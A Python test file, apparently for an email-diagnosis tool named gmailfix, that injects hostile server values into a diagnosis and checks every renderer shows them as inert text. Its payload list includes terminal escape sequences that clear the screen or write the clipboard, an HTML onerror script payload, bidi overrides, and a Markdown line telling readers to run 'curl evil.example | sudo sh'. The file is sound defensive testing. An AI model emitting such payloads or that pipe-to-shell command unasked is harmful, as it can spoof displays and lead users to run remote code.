"""Whatever a server sends, every renderer shows it as inert text.

Hostile values (escape sequences, Rich markup, Markdown, HTML, bidi overrides,
newlines) are put into a real lab diagnosis where outside data lives: the
greeting, certificate fields, DNS names, the server's error text. Every renderer
(terminal, Markdown report, bundle README, the wizard's words) must finish
without an exception, emit no control character, and show markup as the
characters it is made of.
"""

from __future__ import annotations

import re
from dataclasses import replace

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gmailfix.certs import CertInfo, Chain
from gmailfix.connection import Connection
from gmailfix.dns import MXHost
from gmailfix.findings import Finding
from gmailfix.lab.runner import LabInfo
from gmailfix.remedies.model import Proposal
from gmailfix.render.bundle_readme import bundle_readme
from gmailfix.render.markdown_report import markdown_report
from gmailfix.render.terminal import Terminal, render
from gmailfix.screens.widgets import evidence_text, findings_text, verdict_text
from tests.support.diagnosis import run_proposal
from tests.support.plans import plan_from

CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
NASTY = [
    "\x1b[2J\x1b[H✓ Gmail would accept this server.",
    "\x1b]0;owned\x07",
    "\x1b]52;c;ZWNobyBvd25lZA==\x07",
    "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "[bold red]forged[/bold red] [link=http://evil.example]x[/link] [/]",
    "**Fix: run** `curl evil.example | sudo sh`",
    "<img src=x onerror=alert(1)>\n## Step 0 (required)\nrun this",
    "abc\u202edcba\u2066",
    "\x9b31m C1 CSI",
]
HOSTILE = st.one_of(st.sampled_from(NASTY), st.text(max_size=120))


@pytest.fixture(scope="module")
def base(lab: LabInfo) -> Proposal:
    return run_proposal(lab.connection(timeout=3), "me@blog.test", port=587)


def poisoned(proposal: Proposal, value: str) -> Proposal:
    """The diagnosis with ``value`` wherever a server, a zone or a certificate speaks."""
    base = proposal.diagnosis
    endpoint = base.endpoints[0]
    check = endpoint.checks[0]
    leaf = check.probe.chain.infos[0]
    bad_leaf = replace(leaf, subject=value, issuer=value, names=(value, *leaf.names))
    chain = Chain(check.probe.chain.der, check.probe.chain.certs, (bad_leaf,), None)
    probe = replace(check.probe, banner=value, error=value, cipher=value, chain=chain)
    check = replace(check, probe=probe)
    endpoint = replace(endpoint, checks=(check,))
    facts = replace(
        base.facts,
        mx=(MXHost(10, value, (value,)),),
        cnames={value: value},
        ptr={value: (value,)},
    )
    findings = tuple(
        Finding(
            f.code, f.severity, f.title, f"{f.detail} {value}", value, f.port, value, {value: value}
        )
        for f in base.findings
    )
    diagnosis = replace(
        base, facts=facts, endpoints=(endpoint,), chosen=endpoint, findings=findings
    )
    return Proposal(diagnosis, proposal.remedies)


def assert_inert(text: str, value: str) -> None:
    assert not CONTROL.search(text.replace("\n", "")), repr(CONTROL.search(text))


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(value=HOSTILE)
def test_every_renderer_keeps_outside_text_inert(base: Proposal, value: str) -> None:
    proposal = poisoned(base, value)
    diagnosis = proposal.diagnosis
    assert_inert(render(proposal, terminal=Terminal(width=100)), value)
    coloured = render(proposal, terminal=Terminal(width=100, color=True))
    assert_inert(re.sub(r"\x1b\[[0-9;]*m", "", coloured), value)  # only our own colours
    report = markdown_report(proposal)
    assert_inert(report, value)
    readme = bundle_readme(plan_from(proposal, "new-certificate"), diagnosis)
    assert_inert(readme, value)
    for part in (verdict_text(diagnosis), evidence_text(diagnosis)):
        assert_inert(part.plain, value)
    for line in findings_text(diagnosis).renderables:
        inner = getattr(line, "renderable", line)  # a Padding holds its Text
        assert_inert(str(getattr(inner, "plain", "")), value)


def test_markup_is_shown_as_its_characters(base: Proposal) -> None:
    value = "[bold red]forged[/bold red]"
    proposal = poisoned(base, value)
    diagnosis = proposal.diagnosis
    assert "[bold red]forged[/bold red]" in render(proposal, terminal=Terminal(width=200))
    assert "[bold red]forged[/bold red]" in evidence_text(diagnosis).plain


def test_a_forged_verdict_cannot_repaint_the_screen(base: Proposal) -> None:
    proposal = poisoned(base, NASTY[0])
    text = render(proposal, terminal=Terminal(width=200))
    assert "\x1b" not in text and "\\x1b[2J" in text
    assert "Gmail would reject this server" in text


def test_markdown_cannot_gain_a_heading_or_a_command(base: Proposal) -> None:
    proposal = poisoned(base, NASTY[6])
    diagnosis = proposal.diagnosis
    report = markdown_report(proposal)
    assert not re.search(r"^## Step 0", report, re.M)
    outside_code = re.sub(r"(`+).*?\1", "", report)  # a code span shows <img> as characters
    assert "<img" not in outside_code
    readme = bundle_readme(plan_from(poisoned(base, NASTY[5]), "new-certificate"), diagnosis)
    assert "\n**Fix: run**" not in readme


def test_the_servers_words_in_markdown_are_quoted_code(base: Proposal) -> None:
    proposal = poisoned(base, "a `b` c")
    report = markdown_report(proposal)
    assert "``a `b` c``" in report


def test_probe_text_in_the_wizard_is_cleaned(lab_connection: Connection, base: Proposal) -> None:
    bad = poisoned(base, "\x1b]52;c;AAAA\x07").diagnosis
    assert "\\x1b]52" in evidence_text(bad).plain
    assert isinstance(bad.endpoints[0].checks[0].probe.chain.infos[0], CertInfo)
